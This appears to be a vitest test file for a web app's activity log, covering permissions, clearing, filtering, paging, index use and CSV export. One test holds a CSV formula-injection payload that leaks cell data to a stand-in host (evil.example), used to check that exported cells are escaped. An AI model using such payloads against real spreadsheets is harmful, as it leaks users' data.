import { parse } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import { beforeEach, describe, expect, test } from "vitest";
import { type ActivityFilter, emptyFilter, formattedDetails } from "#app/domain/activity/activity.ts";
import {
  activityCsv,
  clearActivity,
  countActivity,
  eventsByDay,
  findLastClearing,
  listActivity,
  searchActivity,
} from "#app/domain/activity/activity-log.server.ts";
import { csvCell } from "#app/domain/core/csv-cells.ts";
import { operation } from "#app/domain/core/operation.server.ts";
import { db } from "#db/client.server.ts";
import { activityLogs, users } from "#db/schema.ts";
import { actorOf, log, logMany, queryPlans, temporaryDatabase } from "#tests/support/database.ts";
import { addAdministrator, addMember } from "#tests/support/people.ts";

const dataDir = temporaryDatabase();
const chief = addAdministrator("Colette Moreau");
const anna = addMember("Anna Núñez", { email: "anna@press.example" });
const ben = addMember("Ben Abbott", { email: "ben@kiln.example" });
beforeEach(() => void db().delete(activityLogs).run());

const search = (filter: Partial<ActivityFilter>, before: number | null = null, limit = 100) =>
  searchActivity({ ...emptyFilter, ...filter }, { before, limit });
const idsOf = (filter: Partial<ActivityFilter>) => search(filter).entries.map(({ id }) => id);

describe("permission to read and clear the log", () => {
  test("members can't read the log", () => {
    expect(() => listActivity(anna, null)).toThrow("Failed to load activity logs. Administrator access may be required.");
  });

  test("members can't clear the log, and their attempt is logged", async () => {
    log();
    await expect(clearActivity.perform(actorOf(anna), {})).rejects.toMatchObject({ status: 403 });
    expect(listActivity(chief, null)).toMatchObject([
      { description: "Anna Núñez tried to clear the activity log", success: false, userId: anna.id },
      { description: "Somebody did something" },
    ]);
  });

  test("clearing the log leaves nothing in it; who did it, when, and how many entries were deleted is kept outside", async () => {
    expect(findLastClearing()).toBeNull();
    logMany(1200, (n) => ({ success: n % 10 !== 0 }));
    const from = Date.now();
    expect(await clearActivity.perform(actorOf(chief), {})).toEqual({ cleared: 1200 });
    expect(listActivity(chief, null)).toEqual([]);
    expect(countActivity()).toEqual({ successful: 0, failed: 0, total: 0 });
    expect(findLastClearing()).toEqual({ at: expect.any(Date), by: "Colette Moreau", cleared: 1200 });
    expect(findLastClearing()?.at.getTime()).toBeGreaterThanOrEqual(from);
    log();
    await clearActivity.perform(actorOf(chief), {});
    expect(findLastClearing()?.cleared).toBe(1);
  });
});

describe("the summary", () => {
  const countRows = () => {
    const rows = db().select({ success: activityLogs.success }).from(activityLogs).all();
    const failed = rows.filter(({ success }) => !success).length;
    return { successful: rows.length - failed, failed, total: rows.length };
  };

  test("matches the number of entries after inserts, deletes, and rollbacks", async () => {
    logMany(20, (n) => ({ success: n % 4 !== 0 }));
    expect(countActivity()).toEqual({ successful: 15, failed: 5, total: 20 });
    db().delete(activityLogs).where(eq(activityLogs.success, false)).run();
    expect(countActivity()).toEqual({ successful: 15, failed: 0, total: 15 });
    const broken = operation({
      log: { action: "test.break", resource: "other", attempt: "break" },
      limit: "administration",
      input: clearActivity.input,
      run(_me, _input, { note }) {
        db().delete(activityLogs).run();
        note({ description: "never kept" });
        throw new TypeError("a fault of ours");
      },
    });
    await expect(broken.perform(actorOf(chief), {})).rejects.toThrow(TypeError);
    expect(countActivity()).toEqual(countRows());
    expect(countActivity().total).toBe(15);
  });
});

describe("the list", () => {
  test("filters by resource, by result, and by both", () => {
    const [a, b, c] = [log({ resource: "auth" }), log({ resource: "auth", success: false }), log({ success: false })];
    expect(idsOf({ resource: "auth" })).toEqual([b.id, a.id]);
    expect(idsOf({ result: "failed" })).toEqual([c.id, b.id]);
    expect(idsOf({ result: "successful" })).toEqual([a.id]);
    expect(idsOf({ resource: "auth", result: "failed" })).toEqual([b.id]);
  });

  test("filters by a member's id or part of a name or email address, ignoring case and accents", () => {
    const [a, b] = [log({ userId: anna.id, resource: "auth", success: false }), log({ userId: ben.id })];
    log();
    for (const member of [String(anna.id), "nunez", "Anna Núñez", "Núñez, Anna", "ANNA@press"]) {
      expect(idsOf({ member }), member).toEqual([a.id]);
    }
    expect(idsOf({ member: "an" })).toContain(a.id);
    expect(idsOf({ member: ".example" })).toEqual(expect.arrayContaining([a.id, b.id]));
    expect(idsOf({ member: "anna", resource: "auth", result: "failed" })).toEqual([a.id]);
    expect(idsOf({ member: "anna", resource: "users" })).toEqual([]);
    expect([idsOf({ member: "nobody like that" }), idsOf({ member: "%" }), idsOf({ member: "999999999999999" })]).toEqual([
      [],
      [],
      [],
    ]);
  });

  test("part of a name that more than ten members share finds ten of them and says that there are more", () => {
    for (let n = 0; n < 11; n++) log({ userId: addMember({ lastName: `Kowalski ${n}` }).id });
    expect(search({ member: "kowalski" })).toMatchObject({ hasMoreMembers: true, entries: { length: 10 } });
    expect(search({ member: "kowalski 10" })).toMatchObject({ hasMoreMembers: false, entries: { length: 1 } });
  });

  test("days are in US Eastern time, also when the clocks change", () => {
    const at = (moment: string) => log({ createdAt: new Date(moment) }).id;
    // Midnight is 5:00 UTC in winter and 4:00 in summer; on November 1, 2026 the day has 25 hours.
    const [before, first, last, after] = [
      at("2026-11-01T03:59:59.999Z"),
      at("2026-11-01T04:00:00Z"),
      at("2026-11-02T04:59:59.999Z"),
      at("2026-11-02T05:00:00Z"),
    ];
    expect(idsOf({ from: "2026-11-01", to: "2026-11-01" })).toEqual([last, first]);
    expect(idsOf({ to: "2026-10-31" })).toEqual([before]);
    expect(idsOf({ from: "2026-11-02" })).toEqual([after]);
    expect(idsOf({ from: "2026-11-02", to: "2026-10-31" })).toEqual([]);
  });

  test("paging repeats and misses no entry with any filter, even among entries of the same millisecond", () => {
    const now = new Date();
    logMany(60, (n) => ({
      userId: [anna.id, ben.id, null][n % 3] as number | null,
      resource: n % 2 ? "auth" : "users",
      success: n % 5 !== 0,
      createdAt: n < 30 ? now : new Date(),
    }));
    for (const filter of [{}, { resource: "auth" }, { result: "failed" }, { member: "example" }] as const) {
      const allIds = idsOf(filter);
      const pagedIds: number[] = [];
      for (let before: number | null = null, pages = 0; pages < 20; pages++) {
        const page = search(filter, before, 7);
        pagedIds.push(...page.entries.map(({ id }) => id));
        before = page.next;
        if (before === null) break;
      }
      expect(pagedIds, JSON.stringify(filter)).toEqual(allIds);
    }
  });

  test("the page before an entry that was cleared is empty", async () => {
    const old = log();
    await clearActivity.perform(actorOf(chief), {});
    expect(search({}, old.id).entries).toEqual([]);
  });

  test("the API lists the newest 1,000 entries, with the user or null and the details as JSON text", () => {
    logMany(1001, (n) => ({ userId: n % 2 ? anna.id : null, details: '{"n":1}' }));
    const newest = listActivity(chief, null);
    expect(newest).toHaveLength(1000);
    expect(newest.slice(0, 2)).toMatchObject([
      { user: null, userId: null, details: '{"n":1}' },
      { user: { firstName: "Anna", lastName: "Núñez", email: anna.email }, userId: anna.id },
    ]);
    expect(listActivity(chief, newest.at(-1)?.id ?? 0)).toHaveLength(1);
  });

  test("every query reads a covering index and never sorts the whole log, so that a million entries stay fast", () => {
    const day = { from: "2026-11-01", to: "2026-11-30" };
    const filters = [{}, { resource: "auth" }, { result: "failed" }, { resource: "auth", result: "failed" }] as const;
    const plans = queryPlans(dataDir, () => {
      for (const filter of [...filters, { member: "2" }, { member: "2", ...filters[3] }]) search({ ...filter, ...day });
      eventsByDay(new Date());
    });
    expect(plans).toHaveLength(7);
    for (const { statement, plan } of plans) {
      const steps = plan.split("; ");
      const indexSteps = steps.filter((step) => /activity_logs/.test(step) && !/INTEGER PRIMARY KEY/.test(step));
      expect(indexSteps.length, statement).toBeGreaterThan(0);
      for (const step of indexSteps) expect(step, statement).toMatch(/^SEARCH activity_logs USING COVERING INDEX activity_logs_/);
      // One sort is allowed: that of the hundred entries found.
      expect(steps.filter((step) => step === "USE TEMP B-TREE FOR ORDER BY").length, statement).toBeLessThanOrEqual(1);
    }
  });
});

describe("events per day", () => {
  test("covers the last 30 days in US Eastern time, oldest first, including days without events", () => {
    const now = new Date("2026-11-21T04:30:00Z");
    for (const moment of ["2026-11-21T04:10:00Z", "2026-11-20T05:00:00Z", "2026-10-22T04:00:00Z"])
      log({ createdAt: new Date(moment) });
    log({ createdAt: new Date("2026-11-20T04:59:59Z"), success: false });
    log({ createdAt: new Date("2026-10-22T03:59:59Z") });
    const days = eventsByDay(now);
    expect(days).toHaveLength(30);
    expect(days.at(-1)).toEqual({ day: "2026-11-20", successful: 2, failed: 0 });
    expect(days.at(-2)).toEqual({ day: "2026-11-19", successful: 0, failed: 1 });
    expect(days[0]).toEqual({ day: "2026-10-22", successful: 1, failed: 0 });
    expect(days.reduce((sum, { successful, failed }) => sum + successful + failed, 0)).toBe(4);
  });
});

test("details are shown one field per line, and unchanged if they aren't JSON", () => {
  expect(formattedDetails('{"city":{"from":null,"to":"Queens"}}')).toBe(
    '{\n  "city": {\n    "from": null,\n    "to": "Queens"\n  }\n}',
  );
  expect(formattedDetails("by hand")).toBe("by hand");
});

test("entries of a deleted member stay, without a user", () => {
  const deleted = addMember();
  log({ userId: deleted.id });
  db().delete(users).where(eq(users.id, deleted.id)).run();
  expect(listActivity(chief, null)).toMatchObject([{ userId: null, user: null }]);
});

/** The CSV file of the activity log. */

const fileOf = async (filter: Partial<ActivityFilter> = {}) => {
  const parts: string[] = [];
  for await (const part of activityCsv({ ...emptyFilter, ...filter })) parts.push(part);
  return parts.join("");
};

test("quotes, commas, and line breaks survive, and each field has a column", async () => {
  const description = 'Ben "the kiln" Abbott,\r\nsigned in';
  log({
    userId: ben.id,
    description,
    details: '{"a":"b, \\"c\\""}',
    resourceId: -3,
    createdAt: new Date("2026-01-05T20:30:00Z"),
  });
  const text = await fileOf();
  expect(text.startsWith("\ufeffId,") || text.startsWith('\ufeff"Id",')).toBe(true);
  expect(parse(text, { bom: true, columns: true })).toEqual([
    {
      Id: expect.any(String),
      "Time (UTC)": "2026-01-05T20:30:00.000Z",
      "Time (Eastern Time)": "2026-01-05 15:30:00",
      Result: "successful",
      Description: description,
      "Error message": "",
      Resource: "other",
      "Resource id": "-3",
      Action: "test.act",
      "User id": String(ben.id),
      Name: "Ben Abbott",
      Email: "ben@kiln.example",
      "IP address": "",
      Browser: "",
      Details: '{"a":"b, \\"c\\""}',
    },
  ]);
});

test("text that a spreadsheet program would run as a formula starts with an apostrophe", () => {
  const attack = '=HYPERLINK("http://evil.example?"&A1,"ok")';
  expect(csvCell(attack)).toBe(`"'=HYPERLINK(""http://evil.example?""&A1,""ok"")"`);
  for (const text of ["+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"]) expect(csvCell(text).slice(0, 2), text).toBe(`"'`);
  expect([csvCell("Anna = Ben"), csvCell(-3), csvCell(null)]).toEqual(['"Anna = Ben"', "-3", ""]);
});

test("follows the filter, newest first, and contains at most 10,000 entries", async () => {
  logMany(10_100, (n) => ({ resource: n % 100 === 0 ? "auth" : "other", description: `n ${n}` }));
  const lines = (text: string) => parse(text, { bom: true, columns: true }) as { Description: string }[];
  const rows = lines(await fileOf());
  expect([rows.length, rows[0]?.Description, rows.at(-1)?.Description]).toEqual([10_000, "n 10099", "n 100"]);
  expect(lines(await fileOf({ resource: "auth" }))).toHaveLength(101);
});
